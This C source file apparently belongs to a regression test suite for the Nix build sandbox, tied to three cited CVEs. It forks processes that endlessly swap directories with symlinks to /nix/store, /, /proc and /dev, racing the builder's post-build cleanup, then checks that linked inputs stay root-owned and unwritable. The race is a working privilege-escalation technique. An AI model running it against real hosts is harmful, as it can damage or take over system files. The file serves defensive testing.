/* CVE: CVE-2025-46415, CVE-2025-52993, CVE-2021-27851
   Wins: what is removed, or given to the builder, after its build is what a link leads to and not what was built
   Verdict: ok
   Output: ok
   Then: $program $bb/bin/busybox $first && echo ok > $out

   Processes that are to outlive their builder exchange folders for links into the store and to the root, where the executor will remove; hard links to inputs lie
   there, too. The next step looks whether its inputs are there, the root's, and nobody's to write. */

#include "../attack.h"

static const char *const places[] = { ".", "/tmp", "/nix/store" };
static const char *const targets[] = { "/nix/store", "/", "/proc", "/dev" };

static void race(const char *place, const char *target)
{
	if (sys(CHDIR, place))
		sys(EXIT, 0);
	sys(MKDIR, "race", 0777);
	sys(CHDIR, "race");
	sys(MKDIR, "a", 0777);
	sys(MKDIR, "a/b", 0777);
	sys(SYMLINK, target, "l");
	for (;;) {
		sys(RENAMEAT2, HERE, "a", HERE, "l", 2);
		if (sys(RENAME, "a", "c") == 0) { /* where exchanges are refused */
			sys(RENAME, "l", "a");
			sys(RENAME, "a", "l");
			sys(RENAME, "c", "a");
		}
	}
}

int attack(char **arguments, char **environment)
{
	u32 status[32], i, k;

	if (arguments[1]) {
		for (i = 1; arguments[i]; i++) {
			fill(status, 0xff, sizeof status);
			must(!sys(LSTAT64, arguments[i], status), "an input is gone");
			must((status[4] & 0222) == 0, "an input can be written to");
			must(status[6] == 0 && status[7] == 0, "an input is not the root's");
			must(FAILED(sys(CHMOD, arguments[i], 0777)), "an input's mode can be changed");
			must(FAILED(sys(OPEN, arguments[i], O_RDWR, 0)), "an input can be opened for writing");
		}
		return 0;
	}
	sys(LINK, arguments[0], "/tmp/input");
	sys(LINK, arguments[0], "input");
	for (i = 0; i < 3; i++)
		for (k = 0; k < 4; k++)
			if (!sys(FORK))
				race(places[i], targets[k]);
	return 0;
}
